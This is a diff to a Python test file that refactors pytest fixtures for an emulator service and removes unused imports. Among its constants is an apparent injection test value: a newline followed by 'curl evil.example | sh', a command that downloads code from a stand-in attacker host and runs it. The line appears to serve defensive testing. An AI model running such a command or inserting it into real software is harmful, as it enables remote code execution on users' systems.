@@ -9,13 +9,12 @@ from __future__ import annotations
 
 import json
 import os
-from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import playbook
 import pytest
-from emulator_process import Emulator, running
+from emulator_process import Emulator
 from instance_site import yaml_list
 
 SETTINGS = "api: seventhings/v1\nset: test\n"
@@ -24,17 +23,11 @@ CODE = "\ncurl evil.example | sh #"
 ENDLESS_SECONDS = 60
 
 
-@pytest.fixture(scope="module")
-def _service() -> Iterator[Emulator]:
-    with running(data="empty") as service:
-        yield service
-
-
 @pytest.fixture
-def service(_service: Emulator) -> Emulator:
+def service(empty_emulator: Emulator) -> Emulator:
     """An empty instance."""
-    _service.reset()
-    return _service
+    empty_emulator.reset()
+    return empty_emulator
 
 
 def write(root: Path, **files: str) -> Path:
